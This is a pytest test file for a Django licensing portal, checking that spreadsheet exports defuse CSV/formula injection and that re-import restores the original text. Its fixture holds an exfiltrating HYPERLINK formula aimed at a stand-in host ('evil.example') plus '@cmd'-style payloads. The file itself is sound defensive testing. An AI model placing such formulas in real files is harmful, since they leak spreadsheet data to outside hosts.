"""Every spreadsheet the portal hands out is safe to open: a text cell that would start a formula
(=, +, -, @, tab, carriage return; OWASP "CSV Injection") comes out prefixed with a quote, in the
catalogue's xlsx and csv and in the audit trail's csv; importing our own export gives the text back."""
import csv
import io

import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin, ImportMixin
from openpyxl import load_workbook

from licensing.admin import ItemResource
from licensing.models import Item
from portal import audit, exports
from portal.models import AuditAction, AuditEvent

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
XLSX, CSV = "0", "1"  # the positions of the formats the catalogue offers


@pytest.fixture
def poisoned_item():
    Item.objects.filter(code="QZ-038").update(name=LINK, remark="+1", legal_basis="@SUM(1+1)",
                                              conditions="-2+3", measures=["=1+1", "第二条"])
    return Item.objects.get(code="QZ-038")


def export_catalogue(client, file_format):
    return client.post(reverse("admin:licensing_item_export"), {
        "format": file_format, "resource": "0",
        **{f"itemresource_{f}": "on" for f in ("code", "name", "remark", "legal_basis", "conditions", "measures")}})


def rows_of(response, file_format):
    if file_format == XLSX:
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
        table = [[cell.value for cell in row] for row in sheet.iter_rows()]
    else:
        table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header = table[0]
    return [dict(zip(header, row)) for row in table[1:]]


@pytest.mark.parametrize("file_format", [XLSX, CSV], ids=["xlsx", "csv"])
def test_a_catalogue_cell_that_starts_a_formula_is_exported_as_text(login, admin_user, poisoned_item, file_format):
    response = export_catalogue(login(admin_user), file_format)
    assert response.status_code == 200
    row = next(r for r in rows_of(response, file_format) if r["code"] == "QZ-038")
    assert row["name"] == "'" + LINK
    assert (row["remark"], row["legal_basis"], row["conditions"]) == ("'+1", "'@SUM(1+1)", "'-2+3")
    assert row["measures"] == "'=1+1\n第二条"
    other = next(r for r in rows_of(response, file_format) if r["code"] == "QZ-013")
    assert other["name"] == "旅馆业特种行业许可证核发"  # ordinary text is left alone


@pytest.mark.parametrize("file_format", [XLSX, CSV], ids=["xlsx", "csv"])
def test_importing_our_own_export_gives_the_text_back(login, admin_user, poisoned_item, file_format):
    client = login(admin_user)
    exported = export_catalogue(client, file_format).content
    Item.objects.filter(code="QZ-038").update(name="别的名称", remark="", legal_basis="", conditions="",
                                              measures=[])
    fmt = exports.FORMATS[int(file_format)]()
    dataset = fmt.create_dataset(exported if fmt.is_binary() else exported.decode("utf-8-sig"))
    result = ItemResource().import_data(dataset, dry_run=False)
    assert not result.has_errors()
    item = Item.objects.get(code="QZ-038")
    assert (item.name, item.remark, item.legal_basis, item.conditions, item.measures) == (
        LINK, "+1", "@SUM(1+1)", "-2+3", ["=1+1", "第二条"])


def test_every_audit_cell_that_starts_a_formula_is_exported_as_text(login, admin_user):
    for text in (LINK, "+1", "-1", "@cmd", "\tTAB", "\rCR"):
        audit.write(AuditAction.LOGIN_FAILED, outcome="failed", object_repr=text, object_id=text[:20])
    response = login(admin_user).post(reverse("admin:portal_auditevent_changelist"), {
        "action": "export_csv", "_selected_action": list(AuditEvent.objects.values_list("pk", flat=True))})
    table = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"), newline="")))
    cells = [cell for row in table[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(exports.FORMULA_STARTS)]
    for text in (LINK, "+1", "-1", "@cmd", "\tTAB", "\rCR"):
        assert "'" + text in cells


def test_every_import_export_admin_offers_only_the_defused_formats():
    admins = [model_admin for model_admin in admin.site._registry.values()
              if isinstance(model_admin, (ExportMixin, ImportMixin))]
    assert admins  # the catalogue at least
    for model_admin in admins:
        formats = set(getattr(model_admin, "export_formats", [])) | set(getattr(model_admin, "import_formats", []))
        assert formats <= set(exports.FORMATS), type(model_admin).__name__
